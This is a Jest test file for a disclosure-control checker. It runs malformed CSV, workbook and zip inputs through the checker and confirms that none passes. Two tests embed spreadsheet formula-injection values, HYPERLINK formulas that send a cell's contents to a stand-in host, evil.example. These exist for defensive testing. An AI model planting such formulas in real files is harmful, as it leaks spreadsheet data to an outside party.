import { randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import type { FileCheckResult, RuleName, Verdict } from './disclosure.types';
import { checkFile } from './file.checker';
import { chunked, utf8 } from './testing/byte-source.fixture';
import { buildWorkbook, type SheetCell } from './testing/workbook.builder';
import { buildZip } from './testing/zip.builder';

// The same malformed content through each reader: a CSV file, a sheet of a workbook, a member
// of a zip archive. Whatever the reader, malformed input never passes and never throws.
const deflate = (data: Uint8Array): Uint8Array => deflateRawSync(data);

type Reader = { name: string; fileName: string; fromText: (csv: string) => Uint8Array; fromRows: (rows: SheetCell[][]) => Uint8Array };

const csvOf = (rows: SheetCell[][]): string => rows.map((r) => r.map((c) => (typeof c === 'object' ? `=${c.formula}` : String(c))).join(',')).join('\n') + '\n';
const sheetOf = (csv: string): SheetCell[][] =>
  csv
    .trimEnd()
    .split('\n')
    .map((line) => line.split(','));

const READERS: Reader[] = [
  { name: 'CSV', fileName: 'table.csv', fromText: utf8, fromRows: (rows) => utf8(csvOf(rows)) },
  {
    name: 'XLSX',
    fileName: 'tables.xlsx',
    fromText: (csv) => buildWorkbook([{ name: 'Sheet1', rows: sheetOf(csv) }], { deflate }),
    fromRows: (rows) => buildWorkbook([{ name: 'Sheet1', rows }], { deflate }),
  },
  {
    name: 'zip',
    fileName: 'outputs.zip',
    fromText: (csv) => buildZip([{ name: 'table.csv', data: utf8(csv), method: 'deflate' }], { deflate }),
    fromRows: (rows) => buildZip([{ name: 'table.csv', data: utf8(csvOf(rows)), method: 'deflate' }], { deflate }),
  },
];

const check = (reader: Reader, bytes: Uint8Array): Promise<FileCheckResult> => checkFile(reader.fileName, chunked(bytes, 997));
const ruleVerdicts = (result: FileCheckResult): [RuleName, Verdict][] => result.findings.map((f) => [f.rule, f.verdict]);

describe.each(READERS)('$name reader: malformed input', (reader) => {
  it('ragged rows: never read as a table whose cells are matched to the wrong labels', async () => {
    const result = await check(reader, reader.fromText('group,A,B\nx,12,13\ny,3\nz,40,41,99\n'));
    expect(result.verdict).not.toBe('pass');
    const messages = result.findings.map((f) => f.message).join();
    if (reader.name === 'XLSX') {
      // A sheet stores no empty trailing cells, so only the row longer than the header is ragged.
      expect(messages).toMatch(/1 row of the table \(body row 2, 0-based\) does not have the 3 cells of the header row/);
    } else {
      expect(messages).toMatch(/2 rows of the table \(body rows 1, 2, 0-based\) do not have the 3 cells of the header row/);
    }
  });

  it('a wrong delimiter: a table that reads as one column goes to review', async () => {
    const result = await check(reader, reader.fromText('sex|smokers\nF|3\nM|45\n'));
    expect(result.verdict).toBe('review');
    expect(result.findings.map((f) => f.message).join()).toMatch(/single column/);
  });

  it('a semicolon table with decimal commas is still read (delimiter detected), and fails its small cell', async () => {
    if (reader.name === 'XLSX') return; // a sheet has no delimiter
    const result = await check(reader, reader.fromText('sex;smokers;share\nF;3;0,5\nM;45;0,5\n'));
    expect(ruleVerdicts(result)).toContainEqual(['threshold', 'fail']);
  });

  it('binary junk goes to review, never to pass', async () => {
    const junk = reader.name === 'CSV' ? Uint8Array.from([...utf8('a,b\nx,12\n'), ...randomBytes(5000)]) : undefined;
    const bytes =
      reader.name === 'CSV'
        ? (junk as Uint8Array)
        : reader.name === 'XLSX'
          ? buildWorkbook([{ name: 'S', rows: [['a', 'b']] }], { deflate, extra: { 'xl/worksheets/sheet1.xml': randomBytes(5000) } })
          : buildZip([{ name: 'table.csv', data: randomBytes(5000), method: 'deflate' }], { deflate });
    const result = await check(reader, bytes);
    expect(result.verdict).toBe('review');
    expect(result.findings.every((f) => f.verdict !== 'pass')).toBe(true);
  });

  it('valid UTF-8 junk in place of XML or a table is not read as an empty, passing file', async () => {
    const bytes =
      reader.name === 'XLSX'
        ? buildWorkbook([{ name: 'S', rows: [] }], { deflate, extra: { 'xl/worksheets/sheet1.xml': 'no markup at all' } })
        : reader.fromText('no markup at all\n');
    expect((await check(reader, bytes)).verdict).not.toBe('pass');
  });

  it('a CSV formula like =HYPERLINK(...) is never read as a number', async () => {
    const hyperlink = 'HYPERLINK("http://evil.example/?q="&A1;"click")';
    const rows: SheetCell[][] = [
      ['sex', 'smokers'],
      ['F', reader.name === 'XLSX' ? { formula: hyperlink } : `=${hyperlink}`],
      ['M', 45],
    ];
    const result = await check(reader, reader.fromRows(rows));
    expect(result.verdict).toBe('review');
    expect(result.findings.map((f) => f.message).join()).toMatch(/spreadsheet formulas/);
  });

  it('a formula typed as text (a CSV imported into Excel) is a formula too', async () => {
    if (reader.name !== 'XLSX') return;
    const result = await check(
      reader,
      reader.fromRows([
        ['sex', 'smokers'],
        ['F', '=HYPERLINK("http://evil.example","x")'],
        ['M', 45],
      ]),
    );
    expect(result.verdict).toBe('review');
  });
});
